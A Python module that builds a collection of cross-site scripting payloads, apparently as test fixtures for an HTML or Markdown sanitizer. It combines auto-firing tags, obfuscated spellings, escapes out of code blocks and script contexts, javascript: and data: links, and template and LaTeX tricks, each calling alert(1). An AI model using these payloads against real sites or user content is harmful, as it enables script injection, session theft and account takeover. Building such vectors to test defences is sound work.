"""Ways to make a page run what somebody wrote: tags x spellings, ways out of a cage x tags, addresses, and single tricks. Each calls alert()."""

from html import escape

CODE = "alert(1)"

# Tags that run on their own. Nothing has to be clicked.
TAGS = (
    f"<img src=x onerror={CODE}>",
    f"<script>{CODE}</script>",
    f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><image href=x onerror={CODE}>",
    f"<body onload={CODE}>",
    f"<video src=x onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}></audio>",
    f"<video><source onerror={CODE}></video>",
    f"<input autofocus onfocus={CODE}>",
    f"<textarea autofocus onfocus={CODE}></textarea>",
    f"<details open ontoggle={CODE}>x</details>",
    f"<iframe onload={CODE}></iframe>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CODE}'></iframe>",
    f"<object data=x onerror={CODE}></object>",
    f"<embed src='javascript:{CODE}'>",
    f"<style onload={CODE}></style>",
    f"<link rel=stylesheet href=x onerror={CODE}>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<div tabindex=0 autofocus onfocus={CODE}>x</div>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s></svg>",
    f"<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={CODE}>x</p>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CODE}&gt;'>",
)

# The same tag as it is, shouted, with other spaces, quotes and entities.
SPELLINGS = {
    "as it is": lambda tag: tag,
    "upper case tag": lambda tag: tag.replace(tag[1:].split()[0].split(">")[0], tag[1:].split()[0].split(">")[0].upper(), 1),
    "slashes for spaces": lambda tag: tag.replace(" ", "/", 1),
    "line breaks for spaces": lambda tag: tag.replace(" ", "\n"),
    "code in entities": lambda tag: tag.replace(CODE, "".join(f"&#x{ord(letter):x};" for letter in CODE)),
}

# Ways out of whatever a page puts around a text, each followed by a tag.
WAYS_OUT = (
    "```\n", "~~~\n", "````\n```\n", "```\n```\n```\n", "\r```\r", "\u2028```\u2028", "</code></pre>", "</pre></div>", "</textarea>", "</blockquote></section>",
    "</script>", "</style>", "</title>", "-->", "]]>", "'\">", "\\`\\`\\`\n", "    \n\n", "> ", "- ", "1. ", "| a |\n|---|\n| ", "<details>\n\n", "\n\n---\n\n", "<!---->", "${", "{{", "\x00",
)  # fmt: skip

ADDRESSES = (
    f"javascript:{CODE}", f"JaVaScRiPt:{CODE}", f"java\tscript:{CODE}", f"java&#10;script:{CODE}", f"&#106;avascript:{CODE}", f"javascript&colon;{CODE}", f"\x01javascript:{CODE}",
    f"data:text/html,<script>{CODE}</script>", f"vbscript:{CODE}", f"javascript://x%0a{CODE}",
)  # fmt: skip
LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '<a href="{}">x</a>', '<form action="{}"><input type=submit></form>', '<base href="{}">')

SINGLE = (
    f"{{{{ {CODE} }}}}", f"<%= {CODE} %>", f"${{{CODE}}}", f"{{% raw %}}{{% endraw %}}<img src=x onerror={CODE}>",
    f"$\\href{{javascript:{CODE}}}{{x}}$", f"$$\\unicode{{<img src=x onerror={CODE}>}}$$", f"\\(<img src=x onerror={CODE}>\\)",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>", f"<img src='x' title='`' onerror={CODE} `>", f"`<img src=x onerror={CODE}>", f"``<img src=x onerror={CODE}>`",
    f"![x](x\"onerror={CODE})", f"![x](x 'x' onerror={CODE})", f"[x](x\"onmouseover={CODE})", f"<img src=x:x onerror={CODE}//", f"<<img src=x onerror={CODE}>>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>", f"<img src=x onerror\x0c={CODE}>", f"<svg/onload={CODE}//", f"<a name=x id=base_url>x</a><img src=x onerror={CODE}>",
    f"\u202e<img src=x onerror={CODE}>", f"&lt;/code&gt;<img src=x onerror={CODE}>", f"attachment:x\" onerror={CODE} x=\"", f"<template><img src=x onerror={CODE}></template>",
)  # fmt: skip


def _vectors() -> dict[str, str]:
    """Name -> text."""
    found = {f"{tag} {name}": spell(tag) for tag in TAGS for name, spell in SPELLINGS.items()}
    found |= {f"{way!r} {tag}": way + tag for way in WAYS_OUT for tag in (TAGS[0], TAGS[1])}
    found |= {link.format(address): link.format(address) for link in LINKS for address in ADDRESSES}
    found |= {escape(TAGS[0]): escape(TAGS[0])} | {text: text for text in SINGLE}
    return found


VECTORS = tuple(dict.fromkeys(_vectors().values()))
